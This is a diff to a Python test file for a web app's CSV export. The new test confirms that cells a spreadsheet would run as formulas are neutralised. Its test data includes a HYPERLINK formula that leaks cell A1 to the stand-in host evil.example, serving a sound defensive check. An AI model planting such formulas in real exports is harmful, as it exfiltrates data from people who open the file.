@@ -11,11 +11,14 @@ from collections.abc import Iterator
 
 import httpx
 import pytest
+import sqlalchemy as sa
 from markupsafe import escape
 from sqlalchemy.engine import Engine
 
 from insights.notice import EMPLOYMENT_NOTICE
 from insights.views import ROW_FIELDS
+from storage.crm_tables import Opportunity
+from storage.types import core_table
 from tests.web.book import MANAGER, SELLER_A, app_for, seed
 from tests.web.server import serving
 from web.app import trial_app
@@ -115,6 +118,33 @@ def test_portfolio_csv_carries_the_notice_and_the_rows_shown(seller_a: httpx.Cli
     assert tuple(rows[0]) == ROW_FIELDS
     assert [row["record_id"] for row in rows] == [row["record_id"] for row in shown["rows"]]
     assert "o8" not in {row["record_id"] for row in rows}
+
+
+def test_portfolio_csv_defuses_cells_a_spreadsheet_would_run_as_formulas(
+    book: Engine, seller_a: httpx.Client
+) -> None:
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    opportunities = core_table(Opportunity)
+    with book.begin() as connection:
+        connection.execute(
+            sa.update(opportunities).where(opportunities.c.id == "o1").values(name=evil)
+        )
+        connection.execute(
+            sa.update(opportunities).where(opportunities.c.id == "o4").values(name="@SUM(1)")
+        )
+
+    download = seller_a.get("/portfolio.csv?type=opportunity")
+    shown = seller_a.get("/api/portfolio?type=opportunity").json()
+
+    rows = {
+        row["record_id"]: row
+        for row in csv.DictReader(io.StringIO(download.text.split("\n", 1)[1]))
+    }
+    assert rows["o1"]["name"] == "'" + evil and rows["o4"]["name"] == "'@SUM(1)"
+    assert {row["name"] for row in shown["rows"]} >= {evil, "@SUM(1)"}  # JSON as stored
+    assert all(
+        not cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row.values()
+    )
 
 
 def test_pipeline_inlines_the_chart_with_links_to_record_pages_and_a_table(
